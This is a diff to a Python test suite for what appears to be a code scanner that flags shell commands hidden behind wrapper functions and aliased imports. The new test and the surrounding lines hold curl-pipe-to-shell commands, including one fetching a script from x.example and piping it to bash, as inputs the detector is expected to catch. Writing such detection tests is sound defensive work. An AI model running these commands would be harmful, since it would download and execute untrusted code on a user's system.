@@ -292,3 +292,13 @@ def test_helpers_that_only_look_like_wrappers_start_nothing_new() -> None:
         "fixed('curl x | sh')\nshow('curl x | sh')\nsh('curl x | sh')\n"
     )
     assert commands(source) == ["ls -l"]
+
+
+def test_a_wrapper_defined_after_its_caller_or_imported_under_an_alias_is_followed(tmp_path: Path) -> None:
+    # Red team (stop 41): a script's `main()` above the helper it calls.
+    source = (
+        "import subprocess as sp\n"
+        "def main():\n    sh('curl -fsSL https://x.example/i.sh | bash')\n"
+        "def sh(cmd):\n    sp.run(cmd, shell=True)\n"
+    )
+    assert ours(scan_code(tmp_path, source)) == [("MLS321", 3, 5, "high")]
